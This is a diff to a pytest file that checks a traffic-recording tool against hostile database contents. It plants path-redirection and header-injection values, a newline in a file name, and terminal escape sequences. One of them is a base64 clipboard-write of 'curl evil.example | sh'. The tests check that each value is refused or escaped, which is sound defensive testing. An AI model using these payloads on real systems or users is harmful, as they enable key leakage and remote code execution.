@@ -38,7 +38,9 @@ def _key(db: Path) -> str:
         return next(r.key for r in catalog.recordings("basic"))
 
 
-@pytest.mark.parametrize("command", [["scan"], ["redact", "--yes"], ["compact"], ["list"], ["cassettes"], ["dump"]])
+@pytest.mark.parametrize(
+    "command", [["scan"], ["redact", "--yes"], ["compact"], ["list"], ["cassettes"], ["dump"]]
+)
 def test_a_planted_trigger_is_refused_by_every_command_and_never_runs(real_db, command):
     hostile.plant_body_thief(real_db)
     before = real_db.read_bytes()
@@ -112,3 +114,62 @@ def test_a_4_gib_response_bomb_is_one_line_for_show_scan_and_export(real_db, tmp
     }[command]
     result = hostile.run(*args)
     _one_line_refusal(result, "past its limit", "damaged or was made to exhaust memory")
+
+
+# --- stored paths, names and text ----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "template", ["@127.0.0.1:{port}/v1/messages", "//127.0.0.1:{port}/v1/messages", "/v1/messages\r\nHost: x"]
+)
+def test_verify_never_sends_the_key_where_a_stored_path_points(real_db, upstream, template):
+    canary = hostile.Canary()
+    try:
+        hostile.execute(
+            real_db, "UPDATE recordings SET path = ?", params=(template.format(port=canary.port),)
+        )
+        result = hostile.run(
+            "verify",
+            "--target",
+            upstream.url,
+            "--db",
+            real_db,
+            "--timeout",
+            "5",
+        )
+    finally:
+        canary.close()
+    assert canary.connections == 0
+    assert result.returncode == 1 and "Traceback" not in result.stderr
+    assert result.stdout.count("not sent: stored path") == 2, result.stdout
+    assert "\r" not in result.stdout
+
+
+def test_export_refuses_a_cassette_name_with_a_trailing_newline(real_db, tmp_path):
+    hostile.execute(real_db, "UPDATE cassettes SET name = 'base' || char(10)")
+    out = tmp_path / "out"
+    result = hostile.run("export", out, "--db", real_db)
+    assert result.returncode == 1 and "Traceback" not in result.stderr
+    assert not any("\n" in p.name for p in tmp_path.rglob("*"))
+
+
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
+HIDDEN = "\x1b[8m hidden \x1b[0m\r\u202e"
+
+
+@pytest.mark.parametrize("command", ["list", "dump", "show", "cassettes-json"])
+def test_control_characters_from_a_db_never_reach_the_terminal(real_db, command):
+    hostile.execute(
+        real_db, "UPDATE recordings SET model = ?1, path = '/v1/messages' || ?1", params=(OSC52 + HIDDEN,)
+    )
+    args = {
+        "list": ["list", "--db", real_db],
+        "dump": ["dump", real_db],
+        "show": ["show", _key(real_db), "--db", real_db],
+        "cassettes-json": ["list", "--json", "--db", real_db],
+    }[command]
+    result = hostile.run(*args)
+    assert result.returncode == 0, result.stderr
+    for character in "\x1b\x07\r\u202e":
+        assert character not in result.stdout
+    assert "\\u001b]52;c;" in result.stdout
